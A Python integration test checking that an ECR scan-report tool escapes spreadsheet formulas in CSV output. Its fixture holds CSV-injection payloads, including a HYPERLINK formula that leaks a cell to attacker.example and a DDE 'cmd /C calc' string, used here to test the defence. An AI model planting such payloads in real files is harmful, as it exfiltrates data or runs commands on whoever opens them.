"""``ecr-report``'s files are opened in spreadsheets: a finding field that a spreadsheet would run as a
formula (``=HYPERLINK(...)``, ``@SUM(...)``) is shown as text, and reads back as ECR gave it."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from ecr_provider import cli
from ecr_provider.core.columns import FINDINGS_REPORT
from ecr_provider.core.csv_format import FORMULA_TRIGGERS, restore_formula
from emulator.scanned_images import add_scanned_image
from emulator.server import ACCOUNT_ID, Emulator

pytestmark = pytest.mark.integration

REGION = "us-east-1"
AS_OF = datetime(2026, 11, 20, tzinfo=UTC)
REPOSITORY = "team/api"
NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"CVE-2026-0001")'
URI = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_FINDING: dict[str, Any] = {
    "name": NAME,
    "uri": URI,
    "severity": "HIGH",
    "attributes": [
        {"key": "package_name", "value": "+cmd"},
        {"key": "package_version", "value": "-2+3"},
    ],
}


@pytest.fixture(scope="module")
def registry(emulator: Emulator) -> None:
    """One repository, one image, one basic-scan finding whose text fields are formulas."""
    add_scanned_image(
        ACCOUNT_ID, REGION, REPOSITORY, "v1", [HOSTILE_FINDING], pushed_at=AS_OF - timedelta(days=1)
    )


@pytest.mark.usefixtures("registry")
@pytest.mark.parametrize(("separator", "delimiter"), [(".", ","), (",", ";")])
def test_formula_fields_of_a_finding_are_text_in_the_files_and_read_back_exactly(
    separator: str, delimiter: str, emulator: Emulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", emulator.endpoint_url)
    monkeypatch.delenv("DECIMAL_SEPARATOR", raising=False)
    argv = ["--output-dir", str(tmp_path), "--region", REGION, "--as-of", AS_OF.isoformat()]

    assert (
        cli.run([*argv, "--read-manifests", "never", "--include-findings", "--decimal-separator", separator])
        == 0
    )

    with (tmp_path / f"{FINDINGS_REPORT}.csv").open(encoding="utf-8", newline="") as handle:
        (finding,) = csv.DictReader(handle, delimiter=delimiter)
    written = {
        "findingName": "'" + NAME,
        "referenceUrl": "'" + URI,
        "packageName": "'+cmd",
        "installedVersion": "'-2+3",
    }
    assert {header: finding[header] for header in written} == written
    assert {header: restore_formula(finding[header]) for header in written} == {
        "findingName": NAME,
        "referenceUrl": URI,
        "packageName": "+cmd",
        "installedVersion": "-2+3",
    }
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]
        assert cells
        assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == [], path
